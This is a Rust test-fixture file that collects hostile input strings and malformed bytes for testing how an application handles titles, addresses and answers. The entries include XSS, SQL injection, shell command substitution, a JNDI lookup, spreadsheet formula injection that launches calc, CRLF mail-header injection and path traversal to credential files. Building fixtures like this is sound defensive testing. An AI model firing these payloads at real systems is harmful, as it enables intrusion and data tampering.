//! The hostile values, in one place: what a title, an address, a file or an answer may hold. Unit tests of the rooms
//! include this file too, so it uses nothing but the standard library.

/// Texts that mean something to one reader or another: terminals, logs, mail, HTML, Slack, SQL, sheets, paths, templates.
pub const HOSTILE: &[&str] = &[
    "",
    " ",
    "a\r\nBcc: victim@example.com\r\n\r\nhello",
    "a\nSubject: other",
    "<!channel> <!here> <@U123> <http://evil.example|click>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\u{202e}gnp.exe",
    "\u{2066}a\u{2069}\u{200f}\u{061c}b",
    "\u{1b}[31mred\u{1b}[0m\u{7}\u{8}\u{7f}",
    "\u{1b}]0;title\u{7}\u{9b}2J",
    "a\u{2028}b\u{2029}c\u{85}d\u{b}e\u{c}f",
    "{{7*7}} ${7*7} <%= 7*7 %> %s%n%x ${jndi:ldap://x} `id` $(id)",
    "'; DROP TABLE alerts; --",
    "\\'; DROP TABLE alerts; -- \\",
    "=HYPERLINK(\"http://evil\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "a\0b",
    "=?utf-8?b?QmNjOiB4QHk=?=",
    ".\r\n.\r\n",
    "\"},{\"level\":\"none",
    "\"\"\",,,\"\n\"",
    "\\u0000\\ud800",
    "【値下げ】ファミコン本体 \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} e\u{301}",
    "Z\u{364}\u{34f}\u{35a}a\u{35c}l\u{35d}g\u{360}o",
    "ﾊﾝｶｸ ①㈱髙 ～－∥",
    "\u{feff}BOM \u{fffe}\u{ffff}\u{fffd}",
    "\u{e0001}\u{e0041}\u{e007f}",
    "\u{200b}\u{200c}\u{2060}",
    "&lt;!channel&gt; &amp; &#x3c;b&#x3e;",
    "null",
    "NaN",
    "1e400",
    "-9223372036854775809",
    "true",
    "ok=1 total{a=\"b\"} 7\nevil_total 1",
    "postgres://user:hunter2@db/x",
];

/// The same, and texts of a length that no field is made for.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    all.push("長".repeat(400_000));
    all.push("<".repeat(1 << 20));
    all.push("e\u{301}".repeat(5_000));
    all.push("[".repeat(100_000));
    all
}

/// Bytes that are no UTF-8, or not only.
pub const BYTES: &[&[u8]] = &[
    b"\xff\xfe\x00\x00",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    b"\xf8\x88\x80\x80\x80",
    b"a\x80b",
    b"\xfe\xff\x00a",
    b"\x00\x00\x00",
];
